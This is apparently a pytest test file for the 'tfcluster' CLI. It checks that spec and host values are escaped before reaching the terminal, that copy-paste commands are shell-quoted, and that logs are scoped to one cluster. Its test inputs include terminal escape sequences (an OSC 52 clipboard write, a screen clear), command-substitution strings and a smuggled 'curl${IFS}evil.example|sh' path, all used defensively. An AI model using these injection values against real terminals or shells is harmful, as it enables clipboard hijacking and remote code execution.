"""Issue 10, part 6 (and review I3): nothing from a spec or a host reaches the terminal with
a raw control character, commands shown for copy and paste are quoted word by word, and
`tfcluster logs` shows only its own cluster's runs."""
from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from tfcluster.errors import PreflightError
from tfcluster.launch.cluster.preflight import preflight
from tfcluster.plan import HostPlan
from tfcluster.safetext import escape, shell_join, shell_word
from tfcluster.ui import UI
from tfcluster.ui.views import print_summary
from tfcluster.watch.logmux import LogMux
from tfcluster.watch.runs import run_dirs

OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"       # writes the clipboard
CLEAR = "\x1b[2J"                              # clears the screen
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def tfc(*args: str, cwd: str | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "tfcluster", *args], capture_output=True, text=True,
                          timeout=60, cwd=cwd, env={**os.environ, "NO_COLOR": "1"})


def no_raw(text: str) -> bool:
    return not any(c in text for c in RAW)


@pytest.mark.parametrize("text,shown", [
    (OSC52, "\\x1b]52;c;ZWNobyBwd25lZA==\\x07"),
    ("a\x9bb\x7fc", "a\\x9bb\\x7fc"),                  # C1 CSI and DEL
    ("x\u202egnp.exe", "x\\u202egnp.exe"),              # a bidi override
    ("zero\u200bwidth\u2028line", "zero\\u200bwidth\\u2028line"),
    ("tab\tnew\nline", "tab\\tnew\\nline"),
    ("é 日本 ok", "é 日本 ok"),                          # printable text is kept as is
])
def test_escape_writes_every_non_printable_character_as_an_escape(text, shown):
    assert escape(text) == shown


def test_a_block_keeps_its_line_breaks_and_nothing_else():
    assert escape(f"one{CLEAR}\ntwo\r", newlines=True) == "one\\x1b[2J\ntwo\\r"


@pytest.mark.skipif(not shutil.which("bash"), reason="needs bash")
@pytest.mark.parametrize("word", [OSC52, CLEAR + "x", "it's", "a\\b", "tab\there", "\u202eabc", "\x7f",
                                  "$(touch x) `id` ; | &", "~/p", "é"])
def test_a_shown_word_pastes_back_as_the_exact_word(word):
    shown = shell_word(word)
    assert no_raw(shown) and "\t" not in shown
    out = subprocess.run(["bash", "-c", f"printf %s {shown}"], capture_output=True, timeout=10)
    assert out.stdout.decode("utf-8", "surrogateescape") == word


def test_shell_join_quotes_each_word():
    assert shell_join(["python3", "$(id)/x.py", "a b", CLEAR]) == "python3 '$(id)/x.py' 'a b' $'\\x1b[2J'"


SPEC = f"""\
name: esc
workdir: "~/$(touch${{IFS}}pwned)"
hosts:
  - {{name: a, address: 10.0.0.1}}
env:
  X: {json.dumps(OSC52 + CLEAR + "mid")}
  BIDI: "\\u202etxt"
jobs:
  ps: {{count: 1, hosts: [a], port: 2222}}
  worker: {{count: 1, hosts: [a], port: 2300}}
train:
  script: template:between_graph
  args: [{json.dumps(OSC52)}, {json.dumps(CLEAR)}, "--ok"]
"""


def test_plan_commands_shows_control_characters_escaped_and_every_command_quoted(tmp_path):
    path = tmp_path / "esc.yaml"
    path.write_text(SPEC)
    for args in (["plan", str(path), "--commands"], ["up", str(path), "--dry-run"],
                 ["train", str(path), "--dry-run"]):
        result = tfc(*args)
        assert result.returncode == 0, result.stderr
        assert no_raw(result.stdout + result.stderr), args
    out = tfc("plan", str(path), "--commands").stdout
    assert "  X=$'\\x1b]52;c;ZWNobyBwd25lZA==\\x07\\x1b[2Jmid'" in out
    assert "  BIDI=$'\\u202etxt'" in out
    assert ("  script:  python3 between_graph.py $'\\x1b]52;c;ZWNobyBwd25lZA==\\x07' $'\\x1b[2J' --ok"
            in out)
    assert "  server:  python3 ~/'$(touch${IFS}pwned)/esc/bin/tfserver.py'" in out
    doc = tfc("plan", str(path), "--json").stdout
    assert no_raw(doc) and json.loads(doc)["tasks"][0]["env"]["X"] == OSC52 + CLEAR + "mid"


def test_an_error_quoting_a_spec_value_is_escaped(tmp_path):
    path = tmp_path / "bad.yaml"
    path.write_text(SPEC.replace("  args:", f"  files: [{json.dumps(CLEAR + 'data')}]\n  args:"))
    result = tfc("train", str(path), "--dry-run")
    assert result.returncode == 2 and no_raw(result.stderr)
    assert result.stderr.splitlines()[0] == (f"tfcluster: error: {path}:13: train.files[0]: not found: "
                                             f"{tmp_path}/\\x1b[2Jdata")


def test_the_ui_escapes_messages_hints_tables_and_details_from_hosts():
    out, err = io.StringIO(), io.StringIO()
    ui = UI(out, err, color=False)
    ui.error(f"host a: python3: {CLEAR}boom", hint=f"run `x{OSC52}`")
    ui.warn("\u202ewarn")
    ui.info(f"info{CLEAR}")
    ui.ok(f"ok{CLEAR}")
    ui.details(f"last lines of worker:0:\n{CLEAR}Traceback\n\x1b[31mError\x1b[0m\n")
    ui.table(f"t{CLEAR}", ["task", f"c{CLEAR}"], [("worker:0", f"cell{OSC52}")], stderr=True)
    ui.text(f"line{CLEAR}\nnext")
    print_summary(ui, "r1", [("worker:0", "a", "0", "0", "1s", f"step=1 loss=0.5 {CLEAR}")], (0, "done"), "runs/r1")
    ui.json({"v": "del\x7f"})
    text = out.getvalue() + err.getvalue()
    assert no_raw(text) and "\x7f" not in text
    lines = err.getvalue().splitlines()
    assert lines[:2] == ["tfcluster: error: host a: python3: \\x1b[2Jboom",
                         "hint: run `x\\x1b]52;c;ZWNobyBwd25lZA==\\x07`"]
    assert lines[2] == "tfcluster: warning: \\u202ewarn"
    assert "last lines of worker:0:\n\\x1b[2JTraceback\n\\x1b[31mError\\x1b[0m\n" in err.getvalue()
    assert "step=1 loss=0.5 \\x1b[2J" in err.getvalue() and "cell\\x1b]52" in err.getvalue()
    assert "line\\x1b[2J\nnext" in out.getvalue() and '"del\\u007f"' in out.getvalue()


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("stream", [io.StringIO, _Terminal], ids=["piped", "terminal"])
def test_progress_lines_are_shown_as_written(stream):
    """A host or path with `:name:` in it is not turned into an emoji, on a terminal (Rich)
    or piped (written as is); piped, a long line is one line, not wrapped at 200 columns."""
    out, err = io.StringIO(), stream()
    ui = UI(out, err, color=False)
    ui.info("Connecting to gpu:smile:box and :thumbs_up:")
    ui.ok("ready on host:x: at :1:")
    long = "Checking " + ",".join(f"h{i}:{2222 + i}" for i in range(40))
    ui.info(long)
    lines = err.getvalue().splitlines()
    assert lines[0] == "Connecting to gpu:smile:box and :thumbs_up:"
    assert lines[1] == "✓ ready on host:x: at :1:"
    if stream is io.StringIO:
        assert lines[2:] == [long]


def test_piped_progress_does_not_import_rich():
    code = ("import io, sys; from tfcluster.ui import UI; ui = UI(io.StringIO(), io.StringIO()); "
            "ui.info('Connecting'); ui.ok('up'); print('rich' in sys.modules)")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert r.stdout.strip() == "False", r.stderr


def test_a_piped_table_is_plain_aligned_columns_and_a_terminal_keeps_rich():
    out, err = io.StringIO(), _Terminal()
    ui = UI(out, err, color=False)
    rows = [("worker:0", "gpu:box", "日本", f"a{CLEAR}"), ("ps:0", "h", "-", "")]
    ui.table("run r1", ["task", "host", "note", "last"], rows)
    assert out.getvalue().splitlines() == ["run r1",
                                           "task      host     note  last",
                                           "worker:0  gpu:box  日本  a\\x1b[2J",
                                           "ps:0      h        -"]
    ui.table("run r1", ["task", "host", "note", "last"], rows, stderr=True)
    assert "┏" in err.getvalue() and "worker:0" in err.getvalue() and CLEAR not in err.getvalue()
    assert "a\\x1b[2J" in err.getvalue()


def test_a_narrow_terminal_folds_table_cells_and_never_cuts_them(monkeypatch):
    """`runs` on 80 columns showed `nuaudi…` for a run id that --run needs whole."""
    monkeypatch.setenv("COLUMNS", "80")
    out = _Terminal()
    run_id = "nuaudit-20261124-010815-f2d4"
    row = (run_id, "2026-11-24 01:08:15", "5.4s", "between-graph", "failed (exit 5): worker:1 exited 1",
           "0", "19", "0.1234")
    UI(out, _Terminal(), color=False).table("runs", ["run", "started", "duration", "mode", "outcome",
                                                     "restarts", "step", "loss"], [row])
    shown = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())          # bold headers
    lines = shown.splitlines()
    assert max(len(line) for line in lines) <= 80 and "…" not in shown
    cells = [line.split("│")[1].strip() for line in lines if line.startswith("│")]
    assert "".join(cells) == run_id


def test_a_long_command_on_a_terminal_is_one_line_the_terminal_folds():
    out = _Terminal()
    command = "TF_CONFIG=" + shell_word(json.dumps({"cluster": {"worker": [f"10.0.0.{i}:2222" for i in range(30)]}}))
    UI(out, _Terminal(), color=False).text(f"  {command}")
    assert out.getvalue().count("\n") == 1 and command in out.getvalue()


def test_plan_commands_piped_keeps_each_line_whole():
    """A saved `plan --commands` is copied from: a long line is not cut at 200 columns."""
    result = tfc("plan", str(Path(__file__).parent.parent / "sample_clusters" / "gpu_lab.yaml"), "--commands")
    assert result.returncode == 0, result.stderr
    spec_line = next(line for line in result.stdout.splitlines() if line.startswith("cluster spec: "))
    cluster = json.loads(spec_line.removeprefix("cluster spec: "))
    assert len(spec_line) > 200 and len(cluster["worker"]) == 8
    envs = [line for line in result.stdout.splitlines() if line.lstrip().startswith("TF_CONFIG=")]
    assert envs and all(line.rstrip().endswith("}'") for line in envs)


def test_a_note_in_the_live_view_escapes_what_a_host_said():
    out = io.BytesIO()
    mux = LogMux(out, ["worker:0"], color=False)
    mux.note("worker:0", f"lost contact with a: {OSC52}")
    assert out.getvalue() == b"worker:0 \xe2\x94\x82 [tfcluster] lost contact with a: \\x1b]52;c;ZWNobyBwd25lZA==\\x07\n"


def test_a_python_path_in_a_hint_is_quoted_for_copy_and_paste():
    host = HostPlan(name="a", address="10.0.0.1", local=False, gpus=0, python="$(touch${IFS}x)/py",
                    bindir="~/.tfcluster/c/bin")
    session = SimpleNamespace(infos={"a": SimpleNamespace(tf_version=None, gpus=0)},
                              plan=SimpleNamespace(host=lambda name: host, spec_path="my lab.yaml", mode="mirrored"))
    with pytest.raises(PreflightError) as info:
        preflight(session, [SimpleNamespace(host="a")], ports=False)
    assert info.value.hint == ("install it there, e.g. `tfcluster exec 'my lab.yaml' --hosts a -- '$(touch${IFS}x)/py' "
                               "-m pip install tensorflow`, or set `python:` in the spec")


def test_known_hosts_paths_in_ssh_hints_are_quoted(tmp_path):
    import dataclasses

    from tfcluster.transport import known_hosts
    from tfcluster.transport.ssh_config import Endpoint

    evil = str(tmp_path / "kh;curl${IFS}evil.example|sh")
    fields = {f.name for f in dataclasses.fields(Endpoint)}
    values = dict(name="gpu0", address="10.0.0.1", port=22, user="u", key_files=(), look_for_keys=True,
                  known_hosts=(evil,), policy="reject", timeout=5.0, jump=None, global_known_hosts=())
    ep = Endpoint(**{k: v for k, v in values.items() if k in fields})
    new_key = SimpleNamespace(get_name=lambda: "ssh-ed25519", asbytes=lambda: b"new-key")
    with pytest.raises(Exception) as info:
        known_hosts.HostKeyPolicy(ep, known_hosts.KnownHosts(ep)).missing_host_key(None, "10.0.0.1", new_key)
    assert info.value.hint.startswith(f"run `ssh-keyscan -p 22 10.0.0.1 >> '{evil}'` after checking")
    known_hosts.append(evil, ep.key_name, "ssh-ed25519", b"old-key")      # now the host is known
    with pytest.raises(Exception) as info:
        known_hosts.HostKeyPolicy(ep, known_hosts.KnownHosts(ep)).missing_host_key(None, "10.0.0.1", new_key)
    assert "CHANGED" in info.value.message
    assert info.value.hint.endswith(f"`ssh-keygen -R 10.0.0.1 -f '{evil}'`")


def test_a_known_hosts_path_under_home_pastes_as_a_working_command(tmp_path):
    """The hint's `~/` stays bare so the shell expands it (quoted, `~` was a literal
    directory name and the pasted command failed); the rest stays quoted."""
    import dataclasses

    from tfcluster.transport import known_hosts
    from tfcluster.transport.ssh_config import Endpoint

    path = "~/.ssh/known hosts;touch x"
    fields = {f.name for f in dataclasses.fields(Endpoint)}
    values = dict(name="gpu0", address="10.0.0.1", port=22, user="u", key_files=(), look_for_keys=True,
                  known_hosts=(path,), policy="reject", timeout=5.0, jump=None, global_known_hosts=())
    ep = Endpoint(**{k: v for k, v in values.items() if k in fields})
    key = SimpleNamespace(get_name=lambda: "ssh-ed25519", asbytes=lambda: b"new-key")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HOME", str(home))
        with pytest.raises(Exception) as info:
            known_hosts.HostKeyPolicy(ep, known_hosts.KnownHosts(ep)).missing_host_key(None, "10.0.0.1", key)
    target = "~/'.ssh/known hosts;touch x'"
    assert f">> {target}`" in info.value.hint
    done = subprocess.run(["bash", "-c", f"echo line >> {target}"], cwd=tmp_path, timeout=10,
                          env={"HOME": str(home), "PATH": os.environ["PATH"]})
    assert done.returncode == 0
    assert (home / ".ssh" / "known hosts;touch x").read_text() == "line\n"
    assert not (tmp_path / "x").exists()


# ------------------------------------------------------------------ review I3: logs

def _run(runs: Path, run_id: str, logs: dict[str, str]) -> None:
    (runs / run_id).mkdir(parents=True)
    (runs / run_id / "manifest.json").write_text("{}")
    for name, text in logs.items():
        (runs / run_id / name).write_text(text)


def test_runs_of_one_second_are_in_the_order_they_started_not_of_their_random_part(tmp_path):
    """An id holds the second its run started; runs of one second (a sweep's) are ordered by
    their manifests, so `runs` lists them oldest first and `logs` picks the latest."""
    import json

    runs = tmp_path / "runs"
    for run_id, started in (("lab-20260101-000000-ff00", 10.2), ("lab-20260101-000000-00ff", 10.7),
                            ("lab-20260101-000001-aaaa", 11.1), ("lab-20251231-235959-ffff", 9.0)):
        _run(runs, run_id, {})
        (runs / run_id / "manifest.json").write_text(json.dumps({"started": started}))
    assert run_dirs(str(runs), "lab") == ["lab-20251231-235959-ffff", "lab-20260101-000000-ff00",
                                          "lab-20260101-000000-00ff", "lab-20260101-000001-aaaa"]


def test_logs_of_lab_are_never_those_of_lab_x(tmp_path):
    runs = tmp_path / "runs"
    _run(runs, "lab-x-20260101-000000-abcd", {"worker-0.log": "from lab-x\n"})
    _run(runs, "lab-20251231-235959-00ff", {"worker-0.log": "from lab\n"})
    _run(runs, "lab-notarun", {"worker-0.log": "junk\n"})
    assert run_dirs(str(runs), "lab") == ["lab-20251231-235959-00ff"]
    assert run_dirs(str(runs), "lab-x") == ["lab-x-20260101-000000-abcd"]
    spec = tmp_path / "lab.yaml"
    spec.write_text("name: lab\nhosts: [{name: a, address: 10.0.0.1}]\n"
                    "jobs: {ps: {count: 1, hosts: [a], port: 2222}, worker: {count: 1, hosts: [a], port: 2300}}\n")
    result = tfc("logs", str(spec), cwd=str(tmp_path))
    assert result.returncode == 0, result.stderr
    assert "from lab\n" in result.stdout and "lab-x" not in result.stdout + result.stderr
    other = tfc("logs", str(spec), "--run", "lab-x-20260101-000000-abcd", cwd=str(tmp_path))
    assert other.returncode == 2 and "no run 'lab-x-20260101-000000-abcd'" in other.stderr


def test_a_server_log_the_summary_names_is_shown_when_asked_for_and_only_then(tmp_path):
    """A task that runs a script and a server keeps the server's output in worker-1.server.log,
    which the summary names (`last lines of worker:1.server`): `logs SPEC worker:1.server`
    shows it; `logs SPEC` shows the scripts' logs alone, as before."""
    runs = tmp_path / "runs"
    _run(runs, "lab-20251231-235959-00ff", {"worker-0.log": "script 0\n", "worker-1.log": "script 1\n",
                                             "worker-1.server.log": "server 1 said\n", "ps-0.log": "ps\n"})
    spec = tmp_path / "lab.yaml"
    spec.write_text("name: lab\nhosts: [{name: a, address: 10.0.0.1}]\n"
                    "jobs: {ps: {count: 1, hosts: [a], port: 2222}, worker: {count: 2, hosts: [a], port: 2300}}\n")
    server = tfc("logs", str(spec), "worker:1.server", cwd=str(tmp_path))
    assert server.returncode == 0, server.stderr
    assert server.stdout.splitlines() == ["worker:1.server │ server 1 said"]
    every = tfc("logs", str(spec), cwd=str(tmp_path))
    assert "server 1 said" not in every.stdout and "worker:1 │ script 1" in every.stdout
    bad = tfc("logs", str(spec), "worker:0.server", cwd=str(tmp_path))
    assert bad.returncode == 2 and "has no log for worker:0.server (has: ps:0, worker:0, worker:1, " \
        "worker:1.server)" in bad.stderr, bad.stderr


def test_logs_show_only_task_logs_whatever_else_the_run_dir_holds(tmp_path):
    runs = tmp_path / "runs"
    _run(runs, "lab-20251231-235959-00ff", {"worker-0.log": "ok\n", f"{CLEAR}evil-0.log": "x\n",
                                             "tensorboard.log": "tb\n"})
    spec = tmp_path / "lab.yaml"
    spec.write_text("name: lab\nhosts: [{name: a, address: 10.0.0.1}]\n"
                    "jobs: {ps: {count: 1, hosts: [a], port: 2222}, worker: {count: 1, hosts: [a], port: 2300}}\n")
    result = tfc("logs", str(spec), cwd=str(tmp_path))
    assert result.returncode == 0 and no_raw(result.stdout + result.stderr)
    assert result.stdout.splitlines() == ["worker:0 │ ok"]
